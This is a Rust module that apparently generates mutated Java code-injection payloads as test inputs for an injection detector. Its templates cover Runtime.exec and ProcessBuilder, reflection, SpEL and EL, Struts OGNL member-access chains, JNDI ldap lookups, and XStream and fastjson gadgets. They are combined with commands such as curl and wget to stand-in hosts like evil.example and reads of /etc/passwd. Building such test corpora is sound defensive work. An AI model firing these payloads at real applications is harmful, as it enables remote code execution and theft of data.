//! Java code injection: expressions that reach the JVM's process, reflection, script or JNDI
//! classes, built from parts — a sink chain (Runtime exec, ProcessBuilder, reflection through
//! `Class.forName` / `getClass()`, ScriptEngine, file classes) × how a class is named (plain,
//! fully qualified, SpEL `T(...)`, OGNL `@cls@member`) × the language wrapper (none, EL `${}`,
//! SpEL `#{}`, Struts OGNL `%{}` with `#_memberAccess` preambles) — plus class names given as
//! data (XStream elements, fastjson `@type`, a bare value). Mutations: whitespace around
//! parentheses, quote style, `\u0023` for OGNL's `#`, transport encodings.

use crate::mutate::{join, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct JavaInjection;

const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "calc",
    "touch /tmp/pwn",
    "cat /etc/passwd",
    "uname -a",
    "nslookup x.oast.example",
    "curl http://203.0.113.5/a",
    "ping -c 1 198.51.100.2",
    "cmd.exe /c dir",
    "bash -c {echo,aWQ=}|{base64,-d}|bash",
    "wget http://evil.example/s",
    "hostname",
    "ls -la /",
    "powershell -c whoami",
    "sleep 7",
];
const CLASSES: &[&str] = &[
    "java.lang.Runtime",
    "java.lang.ProcessBuilder",
    "javax.naming.InitialContext",
    "javax.script.ScriptEngineManager",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "com.sun.rowset.JdbcRowSetImpl",
    "java.net.URLClassLoader",
    "org.springframework.context.support.ClassPathXmlApplicationContext",
    "java.beans.EventHandler",
    "javax.management.loading.MLet",
    "java.lang.ClassLoader",
    "java.io.FileInputStream",
    "java.lang.reflect.Method",
    "sun.misc.Unsafe",
    "jdk.jshell.JShell",
    "groovy.lang.GroovyShell",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "javax.el.ELProcessor",
];

impl Family for JavaInjection {
    fn name(&self) -> &'static str {
        "java-injection"
    }

    fn detector(&self) -> &'static str {
        "java-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let q = if rng.chance(0.5) { "'" } else { "\"" };
        let cmd = *rng.pick(COMMANDS);
        let mut payload = match rng.below(12) {
            0..=2 => {
                let chain = sink(rng, q, cmd, &mut names);
                wrapper(rng, &chain, &mut names)
            }
            3..=5 => ognl(rng, q, cmd, &mut names),
            6 | 7 => {
                names.push("spel-type");
                let class = *rng.pick(&[
                    "java.lang.Runtime",
                    "java.lang.System",
                    "java.lang.Thread",
                    "org.springframework.util.StreamUtils",
                    "java.nio.file.Files",
                    "java.lang.Class",
                    "java.net.InetAddress",
                    "javax.naming.InitialContext",
                ]);
                let member = match class {
                    "java.lang.Runtime" => format!("getRuntime().exec({q}{cmd}{q})"),
                    "java.lang.System" => rng.pick(&["getenv()", "getProperty('user.dir')", "exit(0)", "setProperty('a','b')"]).to_string(),
                    "java.lang.Class" => format!("forName({q}java.lang.Runtime{q})"),
                    "java.lang.Thread" => format!("sleep({})", rng.range(3, 30) * 1000),
                    "java.net.InetAddress" => format!("getByName({q}{}.oast.example{q})", rng.range(1, 1 << 24)),
                    "java.nio.file.Files" => format!("readAllLines(T(java.nio.file.Paths).get({q}/etc/passwd{q}))"),
                    "javax.naming.InitialContext" => format!("doLookup({q}ldap://{}.oast.example/a{q})", rng.range(1, 1 << 24)),
                    _ => "copyToString(null)".to_string(),
                };
                let space = if rng.chance(0.3) { " " } else { "" };
                let expr = format!("T{space}({class}).{member}");
                wrapper(rng, &expr, &mut names)
            }
            8 | 9 => {
                names.push("el-reflection");
                let receiver = *rng.pick(&["''", "\"\"", "request", "session", "1", "pageContext", "applicationScope", "param"]);
                let tail = match rng.below(3) {
                    0 => format!(".forName({q}java.lang.Runtime{q}).getMethod({q}getRuntime{q}).invoke(null).exec({q}{cmd}{q})"),
                    1 => format!(".getClassLoader().loadClass({q}java.lang.Runtime{q})"),
                    _ => format!(".forName({q}javax.script.ScriptEngineManager{q}).newInstance().getEngineByName({q}js{q}).eval({q}java.lang.Runtime.getRuntime().exec('{cmd}'){q})"),
                };
                let expr = format!("{receiver}.getClass(){tail}");
                let open = *rng.pick(&["${", "#{", "${", "%{"]);
                format!("{open}{expr}}}")
            }
            _ => class_as_data(rng, &mut names),
        };
        if rng.chance(0.25) {
            payload = payload.replace('(', " ( ").replace(')', " ) ");
            names.push("ws-paren");
        }
        let (encoded, layer) = transport_layer(rng, &payload);
        names.push(layer);
        Variant { family: "java-injection", mutation: join(&names), payload: encoded, carrier: Carrier::Value }
    }
}

/// A chain that runs `cmd`, reads a file or loads code.
fn sink(rng: &mut Rng, q: &str, cmd: &str, names: &mut Vec<&'static str>) -> String {
    let pkg = |rng: &mut Rng| if rng.chance(0.5) { "java.lang." } else { "" };
    match rng.below(6) {
        0 => {
            names.push("runtime-exec");
            let p = pkg(rng);
            if rng.chance(0.3) {
                format!("{p}Runtime.getRuntime().exec(new String[]{{{q}sh{q},{q}-c{q},{q}{cmd}{q}}})")
            } else {
                format!("{p}Runtime.getRuntime().exec({q}{cmd}{q})")
            }
        }
        1 => {
            names.push("process-builder");
            let p = pkg(rng);
            format!("new {p}ProcessBuilder({q}{}{q}).start()", cmd.replace(' ', &format!("{q},{q}")))
        }
        2 => {
            names.push("forname");
            let class = *rng.pick(&[
                "java.lang.Runtime",
                "javax.script.ScriptEngineManager",
                "java.lang.ProcessBuilder",
                "javax.naming.InitialContext",
            ]);
            format!("Class.forName({q}{class}{q}).getMethod({q}getRuntime{q}).invoke(null)")
        }
        3 => {
            names.push("script-engine");
            format!(
                "new javax.script.ScriptEngineManager().getEngineByName({q}{}{q}).eval({q}java.lang.Runtime.getRuntime().exec('{cmd}'){q})",
                rng.pick(&["js", "nashorn", "JavaScript", "groovy"])
            )
        }
        4 => {
            names.push("file-read");
            let file = *rng.pick(&["/etc/passwd", "/etc/hosts", "WEB-INF/web.xml", "C:/Windows/win.ini"]);
            match rng.below(3) {
                0 => format!("new java.util.Scanner(new java.io.File({q}{file}{q})).useDelimiter({q}\\\\Z{q}).next()"),
                1 => format!("java.nio.file.Files.readAllBytes(java.nio.file.Paths.get({q}{file}{q}))"),
                _ => format!("new java.io.FileInputStream({q}{file}{q})"),
            }
        }
        _ => {
            names.push("jndi-context");
            format!(
                "new javax.naming.InitialContext().lookup({q}ldap://{}/a{q})",
                rng.pick(&["203.0.113.8:1389", "evil.example", "x.oast.example"])
            )
        }
    }
}

/// The sink as written in an expression language, or bare.
fn wrapper(rng: &mut Rng, expr: &str, names: &mut Vec<&'static str>) -> String {
    match rng.below(5) {
        0 => {
            names.push("el-wrapper");
            format!("${{{expr}}}")
        }
        1 => {
            names.push("spel-wrapper");
            format!("#{{{expr}}}")
        }
        2 => {
            names.push("ognl-wrapper");
            format!("%{{{expr}}}")
        }
        _ => expr.to_string(),
    }
}

/// Struts OGNL: member-access preambles, static calls, context maps.
fn ognl(rng: &mut Rng, q: &str, cmd: &str, names: &mut Vec<&'static str>) -> String {
    names.push("ognl");
    let var = *rng.pick(&["cmd", "c", "x", "command", "a"]);
    let exec = match rng.below(3) {
        0 => format!("(@java.lang.Runtime@getRuntime().exec(#{var}))"),
        1 => format!("(#p=new java.lang.ProcessBuilder(#{var})).(#p.redirectErrorStream(true)).(#process=#p.start())"),
        _ => format!("(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(@java.lang.Runtime@getRuntime().exec(#{var}).getInputStream(),#ros))"),
    };
    let preamble = match rng.below(4) {
        0 => "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).".to_string(),
        1 => "(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#context.setMemberAccess(#dm)))).".to_string(),
        2 => "(#context['xwork.MethodAccessor.denyMethodExecution']=false).".to_string(),
        _ => String::new(),
    };
    let body = format!("{preamble}(#{var}={q}{cmd}{q}).{exec}");
    let mut text = match rng.below(4) {
        0 => {
            names.push("ognl-percent");
            format!("%{{{body}}}")
        }
        1 => {
            names.push("ognl-dollar");
            format!("${{{body}}}")
        }
        2 => {
            names.push("ognl-static-only");
            format!("@java.lang.Runtime@getRuntime().exec({q}{cmd}{q})")
        }
        _ => body,
    };
    if rng.chance(0.2) {
        text = text.replace('#', "\\u0023");
        names.push("u0023");
    }
    text
}

/// A class name given as data: a whole value, an XStream element, a fastjson type.
fn class_as_data(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let class = *rng.pick(CLASSES);
    match rng.below(4) {
        0 => {
            names.push("class-value");
            class.to_string()
        }
        1 => {
            names.push("xstream");
            if rng.chance(0.5) {
                format!("<{class}><command><string>{}</string></command></{class}>", rng.pick(&["calc", "id", "touch"]))
            } else {
                let holder = *rng.pick(&[
                    "java.util.PriorityQueue",
                    "java.util.HashMap",
                    "javax.naming.ldap.Rdn_-RdnEntry",
                    "java.util.TreeSet",
                    "sun.rmi.registry.RegistryImpl_Stub",
                ]);
                format!("<{holder} serialization=\"custom\"><unserializable-parents/><{holder}><default><size>2</size></default>")
            }
        }
        2 => {
            names.push("fastjson-type");
            format!(
                "{{\"@type\":\"{class}\",\"dataSourceName\":\"ldap://{}/Exploit\",\"autoCommit\":true}}",
                rng.pick(&["203.0.113.3:1389", "evil.example"])
            )
        }
        _ => {
            names.push("class-call");
            format!("{class}.{}()", rng.pick(&["getRuntime", "newInstance", "class.getClassLoader", "getMethods"]))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn many_distinct_variants() {
        let variants = crate::sample(&JavaInjection, 1, 3000);
        let distinct: std::collections::HashSet<_> = variants.iter().map(|v| v.payload.as_str()).collect();
        assert!(distinct.len() > 1500, "{}", distinct.len());
    }
}
